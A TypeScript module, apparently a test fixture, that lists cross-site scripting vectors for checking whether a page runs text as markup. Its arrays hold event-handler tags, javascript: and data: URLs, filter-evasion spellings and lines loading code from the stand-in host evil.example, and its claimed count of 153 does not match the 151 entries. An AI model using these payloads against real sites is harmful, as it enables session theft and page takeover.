/** The call that each vector makes, if it is ever run. */
export const strike = 'xssHit()';

/** Markup that runs by itself, or at the first touch. */
const payloads = [
  `<script>${strike}</script>`,
  `<img src=x onerror=${strike}>`,
  `<svg onload=${strike}>`,
  `<details open ontoggle=${strike}>`,
  `<iframe srcdoc="<script>parent.${strike}</script>">`,
  `<a href="javascript:${strike}">x</a>`,
] as const;

/** Ends the context that a text may be in: an attribute, another element's text, a comment, a script's string. */
const endings = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</noscript>',
  '-->',
  '</option></select>',
  '</svg>',
  '</template>',
  '\\">',
] as const;

const events = [
  `<body onload=${strike}>`,
  `<video src=x onerror=${strike}></video>`,
  `<audio src=x onerror=${strike}></audio>`,
  `<video><source onerror=${strike}></video>`,
  `<input autofocus onfocus=${strike}>`,
  `<select autofocus onfocus=${strike}></select>`,
  `<textarea autofocus onfocus=${strike}></textarea>`,
  `<keygen autofocus onfocus=${strike}>`,
  `<marquee onstart=${strike}>x</marquee>`,
  `<div onpointerover=${strike}>x</div>`,
  `<p style="animation-name:x" onanimationstart=${strike}>x</p>`,
  `<form><button formaction="javascript:${strike}">x</button></form>`,
  `<form action="javascript:${strike}"><input type=submit></form>`,
  `<svg><animate onbegin=${strike} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${strike}"><text>x</text></a></svg>`,
  `<svg><script href="data:,${strike}"></script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${strike}'/>#x"></use></svg>`,
  `<math href="javascript:${strike}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${strike}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${strike}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${strike}>">`,
] as const;

const loads = [
  `<object data="javascript:${strike}"></object>`,
  `<object data="data:text/html,<script>${strike}</script>"></object>`,
  `<embed src="javascript:${strike}">`,
  `<iframe src="javascript:${strike}"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${strike}</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${strike}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{background:url("javascript:${strike}")}</style>`,
  `<table background="javascript:${strike}"></table>`,
  `<img src="https://evil.example/p.gif">`,
  `<form id=location><input name=href></form>`,
  `<img name=getElementById>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${strike}</script>`,
  `<isindex type=image src=x onerror=${strike}>`,
] as const;

/** Spelt to escape a list of forbidden words. */
const disguises = [
  `<ScRiPt>${strike}</sCrIpT>`,
  `<script\u0009>${strike}</script>`,
  `<script/x>${strike}</script>`,
  `<script>${strike}//`,
  `<<script>${strike}//<</script>`,
  `<scr<script>ipt>${strike}</scr</script>ipt>`,
  `<img/src=x/onerror=${strike}>`,
  `<img src=x\u000conerror=${strike}>`,
  `<img src='x'onerror='${strike}'>`,
  `<img src=x onerror="&#120;ssHit()">`,
  `<img src=x oNeRrOr=eval(atob('eHNzSGl0KCk='))>`,
  `<a href="jav&#x09;ascript:${strike}">x</a>`,
  `<a href="&#106;avascript:${strike}">x</a>`,
  `<a href=" \u0001javascript:${strike}">x</a>`,
  `<a href="vbscript:${strike}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD54c3NIaXQoKTwvc2NyaXB0Pg==">x</a>`,
  `<svg><script>&#120;ssHit()</script></svg>`,
  `<!--><img src=x onerror=${strike}>`,
  `]]><img src=x onerror=${strike}>`,
  `<?xml version="1.0"?><img src=x onerror=${strike}>`,
  `\u202e<img src=x onerror=${strike}>`,
  `<img src=x\u0000onerror=${strike}>`,
  `<scr\u0000ipt>${strike}</scr\u0000ipt>`,
  `\ud83d<img src=x onerror=${strike}>\udfe0`,
  `Kari<b onclick=${strike}>Nordmann</b>`,
] as const;

/** Without a tag: effective in an attribute, or in an address. */
const bare = [
  `" onmouseover="${strike}`,
  `' onmouseover='${strike}`,
  `" autofocus onfocus="${strike}" x="`,
  `' autofocus onfocus='${strike}' x='`,
  `" style="animation-name:x" onanimationstart="${strike}`,
  `javascript:${strike}`,
  `JaVaScRiPt:${strike}`,
  `java\u0009script:${strike}`,
  `\u0001javascript:${strike}`,
  `data:text/html,<script>${strike}</script>`,
] as const;

/** 153 texts that a page would run, if it ever took a text for markup or for an address. */
export const vectors: readonly string[] = [
  ...endings.flatMap((end) => payloads.map((payload) => `${end}${payload}`)),
  ...events,
  ...loads,
  ...disguises,
  ...bare,
];

/** Harmless text in place of a vector. */
export const harmless = 'En helt vanlig tekst';
